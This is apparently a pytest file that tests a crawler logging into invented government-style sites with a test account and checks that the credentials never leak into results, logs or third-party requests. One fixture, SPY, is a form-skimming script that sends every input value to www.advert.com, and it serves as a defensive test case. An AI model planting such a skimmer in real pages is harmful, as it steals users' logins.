"""A test account on invented sites in real Chromium: which blocks know it, what its page lists, and that nobody reads its words."""
import gzip
import json
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest
from login_towns import BLOCKS, HD, HOST, PASSWORD, SSO, USER, Asked, Request, Visitor, login_form, moved, register_form, site
from side_by_side import SECONDS

from pytest_govsite.dossier import Dossier
from pytest_govsite.gather.accounts_secret import Credentials, credentials_of, variables
from pytest_govsite.gather.accounts_visit import choose
from pytest_govsite.model.accounts import Accounts, Login
from pytest_govsite.model.missing import Blame, Missing, Reason

IN = "sid=known"
EVERYWHERE = ("互动交流", "县长信箱", "依申请公开", "办事服务")


def knows(request: Request) -> bool:
    return request.cookies.get("sid") == "known"


def bar(name: str) -> str:
    return f'<p class="bar">请先<a href="/user/login.html?from={name}">登录</a></p>'


def identity(extra: str = ""):
    """The login of the identity: whoever it knows goes back, the right words open it, wrong ones are named on the page."""
    def answer(request: Request):
        back = f"http://{HOST}/user/back.html?from={request.said.get('from', '')}"
        if request.method == "POST" and (request.said.get("name"), request.said.get("word")) == (USER, PASSWORD):
            return moved(back, "tgt=known")
        if request.cookies.get("tgt") == "known" and "renew" not in request.said:
            return moved(back)
        wrong = f'<p>{request.said["name"]}：用户名或密码错误</p>' if request.method == "POST" else ""
        return login_form("某市统一身份认证平台", "/cas/register", wrong + extra)
    return answer


def own(forgets: str = "", lists: str = "", echo: bool = True):
    """The site's part: it hands over to the identity, and remembers whoever comes back; `forgets`: a block that does not."""
    def login(request: Request):
        name = request.said.get("from", "")
        if knows(request) and not (forgets and name == forgets):
            return moved(f"/{name}/")
        return moved(f"http://{SSO}/cas/login?service=x&from={name}{'&renew=1' if forgets and name == forgets and knows(request) else ''}")

    def mine(request: Request):
        greeting = f"您好，{USER} <a href='/user/{quote(USER)}/edit?key={quote(PASSWORD)}'>我的资料</a> <a href='/user/logout'>退出</a>"
        return f"<html><head><meta charset=utf-8><title>{USER}的空间</title></head><body>{greeting if echo else '<a>退出</a>'}<h3>用户中心</h3>{lists}</body></html>"

    def back(request: Request):
        return moved(f"/user/home/{quote(USER)}", IN)

    def landed(request: Request):
        return f"<html><meta charset=utf-8><body>欢迎，{USER}（密码 {PASSWORD}）<a href='/user/'>用户中心</a> <a>退出</a></body></html>"

    return {"/user/login.html": login, "/user/back.html": back, f"/user/home/{quote(USER)}": landed, "/user/": mine}


def county(forgets: str = "", lists: str = "<h4>我的咨询</h4><ul><li>公交线路调整</li></ul><h4>我的办件</h4><ul><li>贷款申请</li><li>社保卡</li></ul>", extra: str = ""):
    """A site with one identity behind all blocks."""
    blocks = {url.strip("/"): bar(url.strip("/")) for url in BLOCKS.values()}
    return site(**blocks) | own(forgets, lists) | {f"{SSO}/cas/login": identity(extra), f"{SSO}/cas/register": register_form()}


def written(folder) -> bytes:
    """Everything in the results folder, unpacked."""
    texts = []
    for path in folder.rglob("*"):
        if path.is_file():
            texts += [path.name.encode(), gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()]
    return b"\n".join(texts)


def is_told(said: str | bytes) -> bool:
    """Name or password stand in it, in any writing."""
    said = said.encode() if isinstance(said, str) else said
    return any(form.encode() in said for word in (USER, PASSWORD) for form in (word, quote(word), quote(word, safe=""), json.dumps(word)[1:-1]))


SPY = (
    '<script>document.querySelector("form").addEventListener("submit", () => { const all = [...document.querySelectorAll("input")].map(one => one.value).join("|");'
    ' fetch("http://www.advert.com/x?" + encodeURIComponent(all)); navigator.sendBeacon("http://www.advert.com/y", all); })</script>'
)
AD = {"www.advert.com/x": "x", "www.advert.com/y": "y"}


def greeted(request: Request) -> str:
    return f"<html><meta charset=utf-8><body>您好，{request.said['name']} <a>退出</a></body></html>"


def member(request: Request) -> str:
    right = (request.said.get("name"), request.said.get("word")) == (USER, PASSWORD)
    return "<html><meta charset=utf-8><body>您好 <a>退出</a></body></html>" if right else login_form("县长信箱登录")


FRAME = f'<iframe src="http://{HD}/member/login.html"></iframe>'
# name: pages; each has an account of its own, one of them with a wrong password
TOWNS = {
    "one login": county(),
    "forgets": county(forgets="xzxx"),
    "a system of its own": county() | {
        f"{HD}/member/login.html": login_form("县长信箱登录"), "/xzxx/": site(xzxx=f'<a href="http://{HD}/member/login.html">登录</a>')["/xzxx/"],
    },
    "an empty list": county(lists="<h4>我的咨询</h4><ul><li>暂无记录</li></ul>"),
    "no list": county(lists="<p>手机号已认证</p>"),
    "refused": county(),
    "a captcha": county(extra='验证码 <input name="yzm"><img src="/kaptcha.jpg" alt="验证码">'),
    "in the address": site(xzxx='<a href="/user/in.html">登录</a>') | AD | {
        "/user/in.html": login_form("用户登录", action="/user/do.html", method="get", extra=SPY), "/user/do.html": greeted,
    },
    "outside": site(xzxx='<a href="http://www.advert.com/login.html">登录</a>') | {"www.advert.com/login.html": login_form()},
    "a frame": site(xzxx=FRAME) | {f"{HD}/member/login.html": member},
    "without account": county(),
}
SITES = {name: f"town.test-{number}" for number, name in enumerate(TOWNS)} | {"without account": "town.other"}
PASSWORDS = dict.fromkeys(TOWNS, PASSWORD) | {"refused": PASSWORD + "x"}


def accounts_of_all() -> dict[str, str]:
    """The environment in which every town but one has its test account."""
    user = {f"GOVSITE_USER_TOWN_TEST_{number}": USER for number in range(len(TOWNS) - 1)}
    return user | {f"GOVSITE_PASSWORD_TOWN_TEST_{number}": PASSWORDS[name] for number, name in enumerate(TOWNS)}


@dataclass
class Visits:
    """Every town seen with its account, side by side; heard: what was said aloud meanwhile."""

    visitor: Visitor
    seen: dict[str, tuple] = field(default_factory=dict)
    heard: tuple[str, ...] = ()

    def __call__(self, name: str) -> tuple[Accounts, Asked]:
        return self.seen[name]

    def make(self) -> None:
        begun = {name: self.visitor.begin(SITES[name], pages) for name, pages in TOWNS.items()}
        self.seen = {name: one.result(SECONDS) for name, one in begun.items()}
        for name, (accounts, _) in self.seen.items():
            Dossier(self.visitor.folder).store(SITES[name], "accounts", accounts)


@pytest.fixture(scope="module")
def visits(tmp_path_factory):
    visitor = Visitor(tmp_path_factory.mktemp("results"))
    yield Visits(visitor)
    visitor.close()


@pytest.fixture
def visit(visits, monkeypatch, capfd, caplog):
    """(Accounts, what was asked) of a town; the first test that asks has all of them visited, and listens."""
    if not visits.seen:
        for name, value in accounts_of_all().items():
            monkeypatch.setenv(name, value)
        visits.make()
        visits.heard = (*capfd.readouterr(), caplog.text)
    return visits


def test_one_login_opens_all_blocks(visit):
    accounts, asked = visit("one login")
    assert (accounts.configured, accounts.refused) == (True, None)
    assert {one.section: one.known for one in accounts.visits} == dict.fromkeys(EVERYWHERE, True)
    assert (accounts.history.lists, accounts.history.entries) == (("我的咨询", "我的办件"), 3)
    assert len(asked.sent()) == 1 and asked.sent()[0].said["word"] == PASSWORD, "the form is sent once"


@pytest.mark.parametrize("name", TOWNS)
def test_nobody_is_told_name_or_password(visit, name):
    """Not whoever reads the evidence, in memory or in the results folder, the output or the log; nor hosts of others."""
    accounts, asked = visit(name)
    assert not any(map(is_told, (repr(accounts), *visit.heard, written(visit.visitor.folder))))
    assert not [request for request in asked.requests if request.host == "www.advert.com" and request.said]


def test_a_block_that_forgets(visit):
    accounts, _ = visit("forgets")
    assert {one.section: one.known for one in accounts.visits} == dict.fromkeys(EVERYWHERE, True) | {"县长信箱": False}


def test_a_system_of_its_own_does_not_know_the_visitor(visit):
    accounts, asked = visit("a system of its own")
    assert {one.section: one.known for one in accounts.visits}["县长信箱"] is False
    assert [request.host for request in asked.sent()] == [SSO]


def test_a_user_without_history(visit):
    accounts, _ = visit("an empty list")
    assert (accounts.history.lists, accounts.history.entries) == (("我的咨询",), 0)
    accounts, _ = visit("no list")
    assert (accounts.history.lists, accounts.history.entries) == ((), 0) and accounts.history.url


def test_an_account_that_is_refused(visit):
    accounts, asked = visit("refused")
    assert (accounts.refused.reason, accounts.refused.blame, accounts.visits, accounts.history) == (Reason.UNCLEAR, Blame.ACCOUNT, (), None)
    assert "用户名或密码错误" in accounts.refused.says and "***" in accounts.refused.says
    assert len(asked.sent()) == 1, "a wrong password is not tried again: accounts are locked"


def test_a_captcha_is_not_solved(visit):
    accounts, asked = visit("a captcha")
    assert (accounts.refused.reason, accounts.refused.blame) == (Reason.WALL, Blame.WALL) and not asked.sent()


def test_a_form_that_sends_its_words_in_the_address_or_to_others(visit):
    accounts, asked = visit("in the address")
    assert accounts.refused is None and asked.sent() and not asked.of("www.advert.com")


def test_a_login_outside_the_government_is_not_told_the_password(visit):
    accounts, asked = visit("outside")
    assert accounts.refused.blame is Blame.ACCOUNT and "www.advert.com" in accounts.refused.says and not asked.sent()


def test_the_account_of_another_site_is_not_used(visit):
    accounts, asked = visit("without account")
    assert not accounts.configured and not accounts.visits and not asked.sent()


def test_the_form_in_a_layer_or_a_frame(visit):
    accounts, _ = visit("a frame")
    assert isinstance(accounts, Accounts) and accounts.configured and accounts.refused is None


def test_names_of_the_variables():
    assert variables("xuanhan") == ("GOVSITE_USER_XUANHAN", "GOVSITE_PASSWORD_XUANHAN")
    assert variables("www.a-b.gov.cn")[0] == "GOVSITE_USER_WWW_A_B_GOV_CN"


def test_half_an_account_is_said_so():
    missing = credentials_of("a", {"GOVSITE_USER_A": USER})
    assert isinstance(missing, Missing) and missing.blame is Blame.ACCOUNT and "GOVSITE_PASSWORD_A" in missing.says and not is_told(missing.says)
    assert credentials_of("a", {}) is None and not is_told(repr(credentials_of("a", {"GOVSITE_USER_A": USER, "GOVSITE_PASSWORD_A": PASSWORD})))


@pytest.mark.parametrize("text", [
    f"您好，{USER}", f"/u/{quote(USER)}?p={quote(PASSWORD, safe='')}", PASSWORD.replace("&", "&amp;"), USER.upper(), quote(PASSWORD.encode("gb18030")),
])
def test_words_are_masked_however_they_are_written(text):
    masked = Credentials(USER, PASSWORD).masked(text)
    assert not is_told(masked) and USER.upper() not in masked and "***" in masked
    assert Credentials("a|b", "c").place("http://user:c@h.gov.cn/a|b/x?c=1#c") == "http://h.gov.***n/***/x"


def at(host: str, **more) -> Login:
    """An entrance that led to a password form on that host."""
    where = f"http://{host}/login"
    return Login("http://www.town.gov.cn/", "互动交流", "互动交流", "登录", "login", where, where, host, "password", **more)


MAILBOX, OWN, ELSEWHERE, LAYER = at("a-wlwz.town.gov.cn"), at(HOST), at("www.shi.gov.cn", own=False), at(HOST, gate=True)
UNIFIED, SPECIAL = at(SSO, unified="统一身份认证", own=False), at(HOST, special=True)


@pytest.mark.parametrize(("logins", "first"), [
    ((MAILBOX, OWN), OWN), ((OWN, MAILBOX), OWN), ((MAILBOX, ELSEWHERE), MAILBOX), ((ELSEWHERE, MAILBOX), MAILBOX), ((OWN, UNIFIED, MAILBOX), UNIFIED),
    ((LAYER, OWN), OWN), ((MAILBOX, LAYER), LAYER), ((SPECIAL, MAILBOX), MAILBOX), ((SPECIAL,), None), ((), None),
])
def test_the_account_is_tried_where_it_was_most_likely_made(logins, first):
    assert choose(Accounts(logins), "town.gov.cn") == first
